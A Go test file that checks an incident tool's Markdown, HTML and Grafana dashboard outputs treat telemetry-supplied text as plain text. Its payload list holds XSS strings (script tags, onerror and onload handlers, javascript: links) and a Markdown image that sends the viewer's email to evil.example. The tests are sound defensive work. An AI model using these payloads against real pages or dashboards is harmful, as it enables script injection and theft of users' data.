package resource_test

import (
	"bytes"
	"encoding/json"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/faultline-investigation/faultline/pkg/casebook/dashboard"
	"github.com/faultline-investigation/faultline/pkg/defect/provoke"
	"github.com/faultline-investigation/faultline/pkg/incident"
	"github.com/faultline-investigation/faultline/pkg/report"
)

// savedCase is a saved case with one entry of every kind, as a document.
func savedCase(tb testing.TB) []byte {
	tb.Helper()
	written, err := os.ReadFile("../incident/testdata/saved.v2.json")
	require.NoError(tb, err)
	return written
}

// reader reads Markdown as generously as anything does, raw HTML included.
var reader = goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithRendererOptions(html.WithUnsafe()))

// outputs are a case in every format that it is written in for others to show, Markdown rendered as HTML.
func outputs(t *testing.T, s *incident.SavedCase) map[string]string {
	t.Helper()
	rendered := func(markdown string) string {
		var page bytes.Buffer
		require.NoError(t, reader.Convert([]byte(markdown), &page))
		return page.String()
	}
	postMortem := report.PostMortemOf(s, nil, nil)
	page, err := postMortem.HTML()
	require.NoError(t, err)
	all := map[string]string{"investigation": rendered(report.Markdown(&s.Case)), "post-mortem": rendered(postMortem.Markdown()), "page": string(page)}
	board, err := json.Marshal(dashboard.Of(s, dashboard.Source{Type: "t", UID: "u"}, 0))
	require.NoError(t, err)
	var shown struct {
		Title, Description string
		Panels             []struct {
			Title, Description string
			Options            struct{ Content string }
		}
	}
	require.NoError(t, json.Unmarshal(board, &shown))
	all["dashboard"] = rendered(shown.Description)
	for _, p := range shown.Panels {
		all["dashboard"] += rendered(p.Description) + rendered(p.Options.Content)
		require.NotRegexp(t, variable, p.Title+" "+p.Description+" "+p.Options.Content)
	}
	require.NotRegexp(t, variable, shown.Title+" "+shown.Description)
	return all
}

// variable is what Grafana fills in, as its template service finds it.
var variable = regexp.MustCompile(`\$(\w+)|\[\[(\w+?)(?::(\w+))?\]\]|\$\{(\w+)(?:\.([^:^\}]+))?(?::([^\}]+))?\}`)

// structural are the fields whose values decide what is written, and are ours.
var structural = []string{"kind", "phase", "outcome", "severity", "unit", "level", "health", "state", "role", "step", "id", "criterion", "key"}

// saying is the case with every text that is not structural changed, but for what people type, which is Markdown.
func saying(t *testing.T, change func(text string) string) *incident.SavedCase {
	t.Helper()
	var tree map[string]any
	require.NoError(t, json.Unmarshal(savedCase(t), &tree))
	var walk func(key string, node any) any
	walk = func(key string, node any) any {
		switch inner := node.(type) {
		case map[string]any:
			for name, value := range inner {
				inner[name] = walk(name, value)
			}
		case []any:
			for i, value := range inner {
				inner[i] = walk(key, value)
			}
		case string:
			if _, err := time.Parse(time.RFC3339, inner); err != nil && !slices.Contains(structural, key) {
				return change(inner)
			}
		}
		return node
	}
	tree["case"] = walk("case", tree["case"])
	written, err := json.Marshal(tree)
	require.NoError(t, err)
	s, err := incident.ReadSaved(written)
	require.NoError(t, err)
	return s
}

// hostile are texts as a stranger who sends telemetry could choose them.
func hostile() []string {
	return []string{`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `</td></table><h1>`, `![x](https://evil.example/?u=${__user.email})`,
		`[click](javascript:alert(1))`, `<https://evil.example>`, `https://evil.example/x`, `www.evil.example`, "a`b", "```js", `**bold** _it_ ~~gone~~`, "x\n\n# heading\n- item", "| a | b |",
		`\`, `$__all`, `[[[name]]]`, `[ref]: https://evil.example`, `&lt;img src=x&gt;`, "\u202etxt", "{{.Env}}", "'\"", "```\n</pre>"}
}

func TestNoOutputTakesWhatTelemetrySaysForMoreThanText(t *testing.T) {
	t.Parallel()
	for _, text := range hostile() {
		t.Run(text, func(t *testing.T) {
			t.Parallel()
			plain := outputs(t, saying(t, func(string) string { return "word" }))
			for format, page := range outputs(t, saying(t, func(string) string { return text })) {
				assert.Equal(t, elements(plain[format]), elements(page), format)
			}
		})
	}
}

// elements are a page's elements without their texts. Code that is empty or not makes no difference.
func elements(page string) string {
	return strings.Join(regexp.MustCompile(`<[^>]*>`).FindAllString(page, -1), "\n")
}

func TestDamagedCasesAreWrittenOrRefused(t *testing.T) {
	t.Parallel()
	provoke.Each(t, 150, [][]byte{savedCase(t)}, func(document []byte) {
		s, err := incident.ReadSaved(document)
		if err != nil {
			require.NotEmpty(t, err.Error())
			return
		}
		_ = s.State()
		_ = report.Markdown(&s.Case)
		page, err := report.PostMortemOf(s, nil, nil).HTML()
		require.NoError(t, err)
		require.NotContains(t, string(page), "<script")
		if board, err := json.Marshal(dashboard.Of(s, dashboard.Source{}, 0)); err == nil {
			_, err := dashboard.Read(board)
			require.NoError(t, err)
		}
	})
}
